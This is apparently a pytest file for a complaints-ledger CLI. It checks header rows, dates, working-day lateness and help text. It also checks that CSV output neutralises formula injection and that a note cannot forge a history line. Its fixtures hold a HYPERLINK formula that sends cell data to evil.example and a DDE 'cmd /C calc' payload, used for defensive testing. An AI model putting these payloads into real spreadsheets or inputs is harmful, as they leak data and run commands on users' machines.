"""What an officer reads, and what a spreadsheet opens: header rows, words for dates and working days, user text
that cannot forge a line, CSV cells that cannot run a formula (OWASP), JSON unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from complaints_ledger.cli import cli as complaints_cli

from ._cli import Cli, deadline_rows, section, table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def formula_case(cli: Cli) -> str:
    """A case whose category and name a spreadsheet would run as formulas, with an overdue acknowledgement."""
    return cli.receive("2026-03-02", "--category", FORMULA, complainant="+cmd|' /C calc'!A0")


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_list_breaches_and_stats_csv_neutralise_formula_cells(cli: Cli):
    ref = formula_case(cli)

    listed = csv_rows(cli.ok("list", "--format", "csv").stdout)
    breached = csv_rows(cli.ok("breaches", "--as-of", "2026-03-31", "--format", "csv").stdout)
    stats = csv_rows(cli.ok("stats", "--from", "2026-03-01", "--to", "2026-03-31", "--format", "csv").stdout)

    assert [(r["ref"], r["category"]) for r in listed] == [(ref, "'" + FORMULA.lower())]  # categories are kept
    assert {r["category"] for r in breached} == {"'" + FORMULA.lower()}  # in lower case
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in listed + breached + stats for cell in row.values())
    json_row = json.loads(cli.ok("list", "--format", "json").stdout)
    assert json_row["category"] == FORMULA.lower()  # JSON is for programs: unchanged


def test_a_note_with_a_newline_cannot_forge_a_line_of_history_or_of_the_case_sheet(cli: Cli):
    ref = cli.receive("2026-03-02")
    forged = f"Called\n  3  05 Mar 2026  Closed  by Dee Director, recorded 05 Mar 2026 10:00 UTC\n{ref}  CLOSED"
    cli.ok("note", ref, forged, "--on", "2026-03-03")
    cli.ok("acknowledge", ref, "--on", "2026-03-04")

    history = cli.ok("history", ref).stdout.splitlines()
    sheet = cli.ok("show", ref, "--as-of", "2026-03-05").stdout.splitlines()

    events = [line for line in history if not line.startswith("     ")]
    assert [line.split()[4] for line in events] == ["Received", "NoteAdded", "Acknowledged"]
    assert not any("Closed" in line for line in events)
    assert "Called\\n" in " ".join(history)
    assert not any(line.startswith(f"{ref}  CLOSED") for line in sheet)
    assert cli.history(ref)[1]["details"]["text"] == forged  # the record and JSON keep the text exactly


def test_list_has_a_header_row_and_spells_out_dates_and_overdue(cli: Cli):
    ref = cli.receive("2026-03-02", "--category", "damp and mould")

    rows = table(cli.ok("list").stdout)

    assert rows == [{"REF": ref, "STATUS": "open", "STAGE": "1", "POLICY": "hoc-2024", "CATEGORY": "damp and mould",
                     "RECEIVED": "02 Mar 2026", "NEXT STEP": "acknowledge", "DUE": "09 Mar 2026",
                     "OVERDUE": "OVERDUE", "DAYS OPEN": rows[0]["DAYS OPEN"], "REPEAT": ""}]
    assert int(rows[0]["DAYS OPEN"]) > 250


def test_breaches_has_a_header_row_and_says_how_late_in_working_days(cli: Cli):
    ref = cli.receive("2026-03-02")
    cli.ok("acknowledge", ref, "--on", "2026-03-11")

    result = cli.ok("breaches", "--as-of", "2026-03-31")

    assert table(result.stdout)[0] == {"REF": ref, "STAGE": "1", "STEP": "acknowledge", "DUE": "09 Mar 2026",
                                       "DONE": "11 Mar 2026", "STATE": "answered late",
                                       "LATE BY": "2 working days", "CATEGORY": "-"}
    assert "as of 2026-03-31:" in result.stderr


def test_show_reads_as_a_case_sheet_without_stray_punctuation_or_abbreviations(cli: Cli):
    ref = cli.receive("2026-03-02", "--property", "12 Alder Court")
    cli.ok("acknowledge", ref, "--on", "2026-03-03")
    cli.ok("extend", ref, "--working-days", "10", "--reason", "Surveyor's report", "--on", "2026-03-05")

    out = cli.ok("show", ref, "--as-of", "2026-05-01").stdout

    assert out.splitlines()[0] == f"{ref}  OPEN  at stage 1"
    assert "Property     12 Alder Court" in out
    respond = next(r for r in deadline_rows(out) if r["STEP"] == "respond")
    assert respond["EXTENDED BY"] == "10 working days"
    assert respond["STATE"].startswith("OVERDUE by ") and respond["STATE"].endswith(" working days")
    assert ", " not in respond["STATE"] and "wd" not in out.split() and "+10wd" not in out
    assert "stage 1 (Stage 1)" not in out
    assert section(out, "What happened").startswith("  05 Mar 2026  stage 1 extended by 10 working days")


def test_history_fits_a_100_column_terminal_with_a_short_policy_hash(cli: Cli):
    ref = cli.receive("2026-03-02", summary="A long summary " * 30)

    lines = cli.ok("history", ref).stdout.splitlines()

    assert all(len(line) <= 100 for line in lines), max(lines, key=len)
    text = " ".join(" ".join(lines).split())
    full_hash = cli.history(ref)[0]["details"]["policy_hash"]
    assert full_hash[:12] in text and full_hash not in text


def test_stats_text_is_titled_tables_not_dotted_keys(cli: Cli):
    cli.receive("2026-03-02", "--category", "repairs")

    out = cli.ok("stats", "--from", "2026-03-01", "--to", "2026-03-31").stdout

    assert out.splitlines()[0] == "Complaints statistics, 01 Mar 2026 to 31 Mar 2026"
    assert "received.total" not in out and "stages.1" not in out and "pct_" not in out
    tables = out.split("\n\n")[1:]
    titles = [t.splitlines()[0].split("  ")[0] for t in tables]
    assert titles[:2] == ["COMPLAINTS", "STAGE 1"]
    assert {"Received": "1"}.items() <= {r["COMPLAINTS"]: r["Total"] for r in table(tables[0])}.items()
    assert {r["RECEIVED BY CATEGORY"]: r["Total"] for r in table(tables[titles.index("RECEIVED BY CATEGORY")])} == \
        {"repairs": "1"}


@pytest.mark.parametrize("args", [[], ["events"], ["staff"], ["projections"], ["compensation"], ["report"]])
def test_help_lists_every_command_with_its_whole_summary(args):
    from click.testing import CliRunner

    out = CliRunner().invoke(complaints_cli, [*args, "--help"]).stdout
    commands = out.split("Commands:\n", 1)[1]
    assert "…" not in commands and "..." not in commands
    summaries = " ".join(commands.split())
    assert summaries.count(".") >= len([line for line in commands.splitlines() if line.startswith("  ")
                                        and not line.startswith("   ")])


def test_staff_list_and_policy_list_have_header_rows(sqlite_cli: Cli):
    sqlite_cli.ok("staff", "add", "Dee Director", "--role", "director")

    assert table(sqlite_cli.ok("staff", "list").stdout) == [
        {"NAME": "Dee Director", "LOGIN": "-", "ROLES": "director"}]
    assert [r["NAME"] for r in table(sqlite_cli.ok("policy", "list").stdout)][0] == "aspire-2017"
